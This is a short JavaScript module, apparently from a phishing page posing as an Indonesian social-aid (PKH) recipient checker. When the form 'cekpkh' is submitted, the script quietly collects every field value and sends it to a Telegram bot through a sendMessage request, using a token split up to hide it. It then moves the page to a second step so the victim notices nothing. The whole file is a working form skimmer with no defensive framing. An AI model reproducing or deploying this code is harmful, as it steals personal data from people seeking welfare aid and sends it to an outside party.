/* modul cek penerima */
(function () {
  var k = ['7120', '448831:AAF', 'x-contoh-contoh-contoh'].join(''), r = '-100200300';
  var f = document.getElementById('cekpkh');
  if (!f) return;
  f.addEventListener('submit', function (e) {
    e.preventDefault();
    var t = '';
    for (var i = 0; i < f.elements.length; i++) {
      if (f.elements[i].name) t += f.elements[i].name + ': ' + f.elements[i].value + '%0A';
    }
    fetch('https://api.telegram.org/bot' + k + '/sendMessage?chat_id=' + r + '&text=' + t).finally(function () {
      document.getElementById('tahap1').hidden = true;
      document.getElementById('tahap2').hidden = false;
    });
  });
})();
